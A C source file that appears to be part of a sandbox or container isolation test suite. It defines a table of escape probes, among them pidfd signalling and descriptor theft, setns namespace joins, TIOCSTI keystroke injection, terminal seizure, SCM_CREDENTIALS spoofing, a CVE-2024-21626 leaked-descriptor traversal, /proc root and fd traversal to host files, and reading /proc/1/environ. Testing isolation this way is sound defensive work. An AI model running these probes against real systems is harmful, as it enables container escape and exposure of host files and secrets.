/* With a descriptor, working directory or variable of the host that a process inside has, as descriptor 0 or by mistake. */
#include "attack.h"
#include <dirent.h>

static int signal_it(char **words)
{
	(void)words;
	return (int)syscall(SYS_pidfd_send_signal, 0, SIGUSR2, NULL, 0);
}

static int take_from_it(char **words)
{
	(void)words;
	return syscall(SYS_pidfd_getfd, 0, 1, 0) == -1 ? -1 : 0;
}

/* Its mount namespace, which kernels from 6.11 hand out. */
static int namespace_of_it(char **words)
{
	(void)words;
	return ioctl(0, _IO(0xff, 3)) == -1 ? -1 : 0; /* PIDFD_GET_MNT_NAMESPACE */
}

/* Who passed a socket, by the socket: from 6.5. */
static int signal_its_peer(char **words)
{
	(void)words;
	int pidfd;
	socklen_t size = sizeof pidfd;
	if (getsockopt(0, SOL_SOCKET, 77, &pidfd, &size) == -1) /* SO_PEERPIDFD */
		return -1;
	return (int)syscall(SYS_pidfd_send_signal, pidfd, SIGUSR2, NULL, 0);
}

static int join_it(char **words)
{
	(void)words;
	return setns(0, CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC);
}

static int join_namespace(char **words)
{
	(void)words;
	return setns(0, 0);
}

/* A socket whose owner gets SIGIO when something arrives: another signal instead, when we say so. */
static int choose_signal(char **words)
{
	(void)words;
	return fcntl(0, F_SETSIG, SIGUSR2);
}

/* Somebody else as the owner of a socket. */
static int give_owner(char **words)
{
	need(fcntl(0, F_SETFL, O_ASYNC), "have it tell its owner");
	return fcntl(0, F_SETOWN, atoi(words[0]));
}

static int type_ahead(char **words)
{
	(void)words;
	return ioctl(0, TIOCSTI, "x");
}

static int steal_terminal(char **words)
{
	(void)words;
	setsid();
	return ioctl(0, TIOCSCTTY, 1);
}

/* Claim to be somebody else to whom we talk to; the witness says what was believed. */
static int claim(char **words)
{
	union {
		struct cmsghdr head;
		char room[CMSG_SPACE(sizeof(struct ucred))];
	} control = {.head = {CMSG_LEN(sizeof(struct ucred)), SOL_SOCKET, SCM_CREDENTIALS}};
	*(struct ucred *)CMSG_DATA(&control.head) = (struct ucred){atoi(words[0]), (uid_t)atoi(words[1]), (gid_t)atoi(words[1])};
	struct iovec x = {"x", 1};
	struct msghdr message = {.msg_iov = &x, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
	return sendmsg(0, &message, 0) == -1 ? -1 : 0;
}

/* CVE-2024-21626: up from any directory that was left open, or that we are in. */
static int leaked(char **words)
{
	char path[4200] = "";
	for (int up = 0; up < 40; up++)
		strcat(path, "../");
	strcat(path, words[0] + 1);
	for (int fd = 3; fd < 4096; fd++)
		if (openat(fd, path, O_RDONLY) != -1)
			return 0;
	return open(path, O_RDONLY) == -1 ? -1 : 0;
}

/* The same by what each process inside shows of itself; the first way that leads to the file. */
static int leaked_by_others(char **words)
{
	static const char *const ways[] = {"root", "cwd", "exe/../../../../../../../..", "fd/0/../../../../../..",
					   "fd/1/../../../../../..", "fd/3/../../../../../.."};
	char path[4200];
	DIR *proc = opendir("/proc");
	for (struct dirent *entry; proc && (entry = readdir(proc));)
		for (size_t way = 0; atoi(entry->d_name) && way < sizeof ways / sizeof *ways; way++) {
			snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, ways[way], words[0]);
			if (open(path, O_RDONLY) != -1)
				return 0;
		}
	errno = ENOENT;
	return -1;
}

static int variable(char **words)
{
	char text[65536] = "";
	if (getenv(words[0]))
		return 0;
	int fd = open("/proc/1/environ", O_RDONLY);
	ssize_t size = fd == -1 ? 0 : read(fd, text, sizeof text);
	if (size > 0 && memmem(text, (size_t)size, words[0], strlen(words[0])))
		return 0;
	refused("UNSET");
}

const struct attack GIVEN[] = {
	{"given-pidfd-signal", signal_it},
	{"given-pidfd-getfd", take_from_it},
	{"given-pidfd-setns", join_it},
	{"given-pidfd-namespace", namespace_of_it},
	{"given-peer", signal_its_peer},
	{"given-namespace", join_namespace},
	{"given-setsig", choose_signal},
	{"given-setown", give_owner},
	{"given-tiocsti", type_ahead},
	{"given-tiocsctty", steal_terminal},
	{"claim", claim},
	{"leaked", leaked},
	{"leaked-by-others", leaked_by_others},
	{"variable", variable},
	{0},
};
